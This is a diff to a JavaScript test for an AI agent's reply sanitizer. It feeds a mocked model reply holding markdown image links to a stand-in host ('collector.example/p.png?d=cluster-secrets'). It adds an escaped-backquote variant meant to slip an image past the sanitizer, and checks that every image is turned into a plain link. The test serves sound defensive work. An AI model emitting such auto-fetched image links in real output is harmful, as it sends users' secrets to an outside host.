@@ -207,10 +207,15 @@ describe('the agentic loop (OpenAI-compatible provider)', () => {
     // An image would be fetched from its host when shown, with whatever the URL carries.
     const leak = 'https://collector.example/p.png?d=cluster-secrets';
     const code = "`!['a'].includes(x)`\n\n```js\nif (!['b'].includes(y)) return;\n```";
-    openai.enqueueText(`Chart: ![usage](${leak}) and ![by reference][1] and !![twice](${leak})\n\n[1]: ${leak}\n\n${code}\n${'!['.repeat(100_000)}`);
+    // A backquote after a backslash opens no code span: the image between two is an image.
+    const escaped = `\\\`x ![hidden](${leak}) \``;
+    openai.enqueueText(
+      `Chart: ![usage](${leak}) and ![by reference][1] and !![twice](${leak})\n\n[1]: ${leak}\n\n${escaped}\n\n${code}\n${'!['.repeat(100_000)}`,
+    );
     const { status, body } = await say(superadmin, 'draw it');
     expect(status).toBe(200);
     expect(body.reply).toContain(`Chart: [usage](${leak}) and [by reference][1] and [twice](${leak})`);
+    expect(body.reply).toContain(`\\\`x [hidden](${leak}) \``);
     expect(body.reply).toContain(code); // code keeps its meaning
     expect(body.reply.replace(code, '')).not.toContain('![');
     expect(body.reply).toContain('['.repeat(100_000));
